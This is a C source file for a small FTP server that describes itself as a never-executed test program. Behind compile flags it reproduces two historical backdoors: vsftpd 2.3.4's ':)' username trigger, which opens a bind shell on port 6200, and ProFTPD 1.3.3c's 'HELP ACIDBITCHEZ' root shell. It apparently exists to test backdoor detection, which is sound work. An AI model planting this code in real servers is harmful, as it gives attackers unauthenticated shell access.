/*
 * ftpd.c - test program (never executed): a small FTP server (RFC 959
 * control connection: greeting, USER/PASS checked with crypt() against the
 * shadow entry, a command table, PASV data connections) and, by -D, the two
 * historical back doors planted into real FTP servers, written here from
 * the public write-ups:
 *   -DSMILEY  vsftpd 2.3.4 (2011): a user name containing ":)" (two
 *             character compares) makes a helper bind TCP 6200 (htons), and
 *             hand the first connection /bin/sh with dup2 x3
 *   -DACID    ProFTPD 1.3.3c (2010): "HELP ACIDBITCHEZ" (strcmp of the HELP
 *             argument) sets uid/gid 0 and runs system("/bin/sh;/sbin/sh")
 * Without either it is the clean counterpart. Linked with -lcrypt.
 * -DHTTPMODE adds vsftpd's http_enable shape (files served over HTTP: a
 * status line and headers), which gives the program a second role, a web
 * server's, whose CGI expectation must not explain the ":)" shell;
 * -DSMILEYHTTP is -DSMILEY with it.
 */
#ifdef SMILEYHTTP
#define SMILEY
#define HTTPMODE
#endif
#include <crypt.h>
#include <netinet/in.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const commands[] = { "USER", "PASS", "PASV", "EPSV", "RETR", "STOR",
					"MDTM", "RNFR", "RNTO", "SITE", "HELP", "QUIT" };

static void reply(int c, const char *text)
{
	(void)!write(c, text, strlen(text));
}

#ifdef SMILEY
static void sysutil_extra(void)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM, 0), rfd;
	if (fd < 0)
		exit(1);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(6200);
	sa.sin_addr.s_addr = INADDR_ANY;
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 100) < 0)
		exit(1);
	rfd = accept(fd, 0, 0);
	close(0);
	close(1);
	close(2);
	dup2(rfd, 0);
	dup2(rfd, 1);
	dup2(rfd, 2);
	execl("/bin/sh", "sh", (char *)0);
}
#endif

static int check_user(int c, const char *user)
{
#ifdef SMILEY
	size_t i;
	for (i = 0; user[i] && user[i + 1]; i++)
		if (user[i] == 0x3a && user[i + 1] == 0x29)
			sysutil_extra();
#endif
	if (!getspnam(user)) {
		reply(c, "530 Login incorrect.\r\n");
		return 0;
	}
	reply(c, "331 Please specify the password.\r\n");
	return 1;
}

static int check_pass(int c, const char *user, const char *pass)
{
	struct spwd *sp = getspnam(user);
	const char *h = sp ? crypt(pass, sp->sp_pwdp) : NULL;
	if (!h || strcmp(h, sp->sp_pwdp) != 0) {
		reply(c, "530 Login incorrect.\r\n");
		return 0;
	}
	reply(c, "230 Login successful.\r\n");
	return 1;
}

static void help(int c, const char *arg)
{
#ifdef ACID
	if (strcmp(arg, "ACIDBITCHEZ") == 0) {
		(void)!setuid(0);
		(void)!setgid(0);
		(void)!system("/bin/sh;/sbin/sh");
	}
#endif
	(void)arg;
	reply(c, "214-The following commands are recognized.\r\n214 Help OK.\r\n");
}

#ifdef HTTPMODE
/* vsftpd's http_enable: a GET answered with the file's bytes, no CGI */
static void http_reply(int c, long len)
{
	char hdr[160];
	snprintf(hdr, sizeof(hdr),
		 "HTTP/1.1 200 OK\r\nServer: vsftpd\r\nContent-Type: application/octet-stream"
		 "\r\nContent-Length: %ld\r\n\r\n", len);
	reply(c, hdr);
}

static void http_missing(int c)
{
	reply(c, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
}
#endif

static void pasv(int c)
{
	struct sockaddr_in sa;
	socklen_t len = sizeof(sa);
	int d = socket(AF_INET, SOCK_STREAM, 0);
	char msg[96];
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	bind(d, (struct sockaddr *)&sa, sizeof(sa));
	listen(d, 1);
	getsockname(d, (struct sockaddr *)&sa, &len);
	snprintf(msg, sizeof(msg), "227 Entering Passive Mode (0,0,0,0,%u,%u).\r\n",
		 ntohs(sa.sin_port) >> 8, ntohs(sa.sin_port) & 0xff);
	reply(c, msg);
}

static void session(int c)
{
	char line[512], user[128] = "";
	int authed = 0;
	ssize_t n;
	/* vsftpd's greeting: the signature for its back door needs it */
	reply(c, "220 (vsFTPd 2.3.4)\r\n");
	while ((n = read(c, line, sizeof(line) - 1)) > 0) {
		char *arg;
		size_t k;
		line[n] = 0;
		line[strcspn(line, "\r\n")] = 0;
		arg = strchr(line, ' ');
		arg = arg ? arg + 1 : line + strlen(line);
		for (k = 0; k < sizeof(commands) / sizeof(commands[0]); k++)
			if (strncmp(line, commands[k], 4) == 0)
				break;
#ifdef HTTPMODE
		if (strncmp(line, "GET ", 4) == 0) {
			if (authed)
				http_reply(c, (long)n);
			else
				http_missing(c);
			continue;
		}
#endif
		if (k == 0) {
			snprintf(user, sizeof(user), "%s", arg);
			check_user(c, user);
		} else if (k == 1) {
			authed = check_pass(c, user, arg);
		} else if (k == 2 && authed) {
			pasv(c);
		} else if (k == 10) {
			help(c, arg);
		} else if (k == 11) {
			reply(c, "221 Goodbye.\r\n");
			break;
		} else {
			reply(c, authed ? "502 Command not implemented.\r\n" : "530 Please login with USER and PASS.\r\n");
		}
	}
	close(c);
}

int main(void)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(21);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 16) < 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		if (fork() == 0) {
			session(c);
			_exit(0);
		}
		close(c);
	}
}
